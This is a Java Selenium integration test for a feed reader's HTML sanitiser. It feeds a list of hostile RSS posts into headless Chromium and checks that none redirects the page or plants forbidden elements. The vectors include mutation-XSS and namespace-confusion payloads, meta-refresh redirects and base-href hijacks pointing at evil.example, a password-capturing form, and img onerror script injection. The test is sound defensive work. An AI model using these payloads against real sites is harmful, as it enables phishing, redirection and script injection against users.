package sift.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import sift.ingest.testing.FixtureServer;
import sift.web.auth.LoginBrowserIT;

/**
 * Issue 20, in a real browser: posts made from hostile feeds (namespace confusion through svg and math, raw-text
 * elements, markup cut mid-tag, hundreds of claims) are opened in headless Chromium, and the page stays where it is
 * with no element outside the cleaner's allow-list in the post.
 */
class HostileFeedBrowserIT {
    private static final String EVIL = "https://evil.example/";
    private static final String REFRESH = "<meta http-equiv=refresh content=\"0;url=" + EVIL + "\">";
    private static final String YOUTUBE = "<iframe src=\"https://www.youtube.com/embed/x\">";
    /** What a post's content may never hold, however it got there. */
    private static final String FORBIDDEN = "meta, base, form, input, button, select, textarea, style, link, object, "
            + "embed, script, noscript, template, frame, frameset, iframe:not([sandbox]), svg foreignObject, "
            + "math annotation-xml, svg iframe, math iframe, svg p, math p";

    /** Each a post's whole content; named for the failure message. */
    private static final Map<String, String> VECTORS = Map.ofEntries(
            Map.entry(
                    "iframe in foreignObject",
                    "<svg><foreignObject>" + YOUTUBE + "<p>" + REFRESH + "</iframe></foreignObject></svg>"),
            Map.entry(
                    "iframe in annotation-xml",
                    "<math><annotation-xml encoding=\"text/html\">" + YOUTUBE + "<form action=\"" + EVIL
                            + "\"><input name=password><button>Sign in</button></form></iframe></annotation-xml></math>"),
            Map.entry("iframe in svg", "<svg>" + YOUTUBE + "<base href=\"" + EVIL + "\"></iframe></svg>"),
            Map.entry(
                    "iframe in mtext",
                    "<math><mtext><iframe src=\"https://player.vimeo.com/video/1\">" + REFRESH
                            + "</iframe></mtext></math>"),
            Map.entry(
                    "iframe in mi", "<math><mi>" + YOUTUBE + "<embed src=\"" + EVIL + "x.swf\"></iframe></mi></math>"),
            Map.entry(
                    "iframe in svg title",
                    "<svg><title>" + YOUTUBE + "<link rel=stylesheet href=\"" + EVIL
                            + "x.css\"></iframe></title></svg>"),
            Map.entry(
                    "noscript in svg desc",
                    "<svg><desc><noscript><p title=\"</noscript>" + REFRESH.replace('"', '\'')
                            + "\"></noscript></desc></svg>"),
            Map.entry(
                    "style in svg", "<svg><style><img src=x onerror=alert(1)><base href=//evil.example></style></svg>"),
            Map.entry(
                    "mglyph in table in mtext",
                    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>" + REFRESH),
            Map.entry(
                    "noscript title",
                    "<noscript><p title=\"</noscript><form action=" + EVIL + "><input name=x></form>\">"),
            Map.entry("style after svg", "<svg></p><style><a id=\"</style><base href=" + EVIL + ">\">"),
            Map.entry(
                    "object in foreignObject",
                    "<svg><foreignObject><object data=\"" + EVIL + "x\"></object></foreignObject></svg>"),
            Map.entry("svg in iframe", YOUTUBE + "<svg><foreignObject>" + REFRESH + "</foreignObject></svg></iframe>"),
            Map.entry(
                    "math in svg in math",
                    "<math><mtext><svg><foreignObject><math><mi>" + YOUTUBE + REFRESH
                            + "</iframe></mi></math></foreignObject></svg></mtext></math>"),
            Map.entry("textarea", "<textarea>" + REFRESH + "</textarea>"),
            Map.entry("title", "<title>" + REFRESH + "</title>"),
            Map.entry("xmp", "<xmp>" + REFRESH + "</xmp>"),
            Map.entry("noembed", "<noembed>" + REFRESH + "</noembed>"),
            Map.entry("template", "<template>" + REFRESH + "</template>"),
            Map.entry(
                    "plain meta base form",
                    REFRESH + "<base href=\"" + EVIL + "\"><form action=\"" + EVIL
                            + "\"><input name=q><button>Go</button></form><link rel=stylesheet href=\"" + EVIL
                            + "x.css\">"),
            Map.entry(
                    "cut mid-tag",
                    "<p>" + "A long post about BGP route reflectors. ".repeat(26_000) + "</p><p><a href=\"" + EVIL
                            + "\">" + "swallowed ".repeat(1000) + "</a></p>"),
            Map.entry("hundreds of claims", claims(400)));

    @TempDir
    Path dir;

    /** A post of {@code n} hype claims in a megabyte of padding. */
    private static String claims(int n) {
        StringBuilder html = new StringBuilder();
        for (int i = 0; i < n; i++) {
            html.append("<p>Our AI agent understands your network and fixes every outage instantly, guaranteed.</p>")
                    .append("<p>")
                    .append("padding ".repeat(300))
                    .append("</p>");
        }
        return html.toString();
    }

    @Test
    void hostilePostsNeitherMoveThePageNorPlantElements() throws Exception {
        LoginBrowserIT.needsChromiumAndItsDriver();
        try (FixtureServer origin = new FixtureServer()) {
            origin.route(
                    "/hostile.xml",
                    FixtureServer.Route.ok("application/rss+xml", feed().getBytes(StandardCharsets.UTF_8)));
            try (TestApp app = TestApp.start(dir.resolve("data"), List.of(origin.url("/hostile.xml")), true)) {
                app.awaitPosts(VECTORS.size());
                assertThat(app.server.db().postChanges().count())
                        .as("every hostile item stored")
                        .isEqualTo(VECTORS.size());
                WebDriver browser = LoginBrowserIT.chromium(dir.resolve("profile"));
                try {
                    // the control: a page that does plant a refresh is caught moving
                    String control = "data:text/html,<meta http-equiv=refresh content=\"0;url=about:blank#moved\">";
                    browser.get(control);
                    assertThatThrownBy(() -> assertStays(browser, control, "the control page"))
                            .hasMessageContaining("moved");
                    List<String[]> posts = new ArrayList<>();
                    for (String next = app.url("/"); next != null; ) {
                        browser.get(next);
                        for (WebElement a : browser.findElements(By.cssSelector(".entry h2 a"))) {
                            posts.add(new String[] {a.getText(), a.getAttribute("href")});
                        }
                        List<WebElement> older = browser.findElements(By.cssSelector("a[rel=next]"));
                        next = older.isEmpty() ? null : older.get(0).getAttribute("href");
                    }
                    assertThat(posts).hasSize(VECTORS.size());
                    for (String[] post : posts) {
                        browser.get(post[1]);
                        assertStays(browser, post[1], post[0]);
                        Object planted = ((JavascriptExecutor) browser)
                                .executeScript(
                                        "return Array.from(document.querySelectorAll('.content')).flatMap(c => "
                                                + "Array.from(c.querySelectorAll(arguments[0]))).map(e => e.outerHTML.slice(0, 120));",
                                        FORBIDDEN);
                        assertThat((List<?>) planted)
                                .as("elements planted by '" + post[0] + "'")
                                .isEmpty();
                        Object outside = ((JavascriptExecutor) browser)
                                .executeScript("return Array.from(document.querySelectorAll('base, meta[http-equiv], "
                                        + "form:not([action^=\"/\"]):not([method=dialog]), .content footer, .content .foot'))"
                                        + ".map(e => e.outerHTML.slice(0, 120));");
                        assertThat((List<?>) outside)
                                .as("the page around '" + post[0] + "'")
                                .isEmpty();
                        assertThat(browser.findElement(By.cssSelector("body > footer.foot"))
                                        .isDisplayed())
                                .as("the page's own footer after '" + post[0] + "' (not swallowed by a cut tag)")
                                .isTrue();
                    }
                    LoginBrowserIT.screenshot(browser, "hostile-post.png");
                } finally {
                    browser.quit();
                }
            }
        }
    }

    /** The browser is still on {@code url} a moment after it loaded (a planted refresh moves it at once). */
    private static void assertStays(WebDriver browser, String url, String what) throws InterruptedException {
        Thread.sleep(Duration.ofMillis(700).toMillis());
        String now = browser.getCurrentUrl();
        if (!now.equals(url)) {
            throw new AssertionError("'" + what + "' moved the page from " + url + " to " + now);
        }
    }

    /** An RSS feed of one item a vector, its content the vector, its title the vector's name. */
    private static String feed() {
        StringBuilder xml = new StringBuilder("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<rss version=\"2.0\" "
                + "xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel><title>Hostile</title>"
                + "<link>https://hostile.example/</link><description>Markup that means harm</description>");
        int i = 0;
        for (Map.Entry<String, String> vector : VECTORS.entrySet()) {
            xml.append("<item><guid isPermaLink=\"false\">vector-")
                    .append(i)
                    .append("</guid><title>")
                    .append(vector.getKey())
                    .append("</title><link>https://hostile.example/")
                    .append(i++)
                    .append("</link><pubDate>Thu, 03 Dec 2026 12:00:00 GMT</pubDate><content:encoded><![CDATA[")
                    .append(vector.getValue())
                    .append("]]></content:encoded></item>");
        }
        return xml.append("</channel></rss>").toString();
    }
}
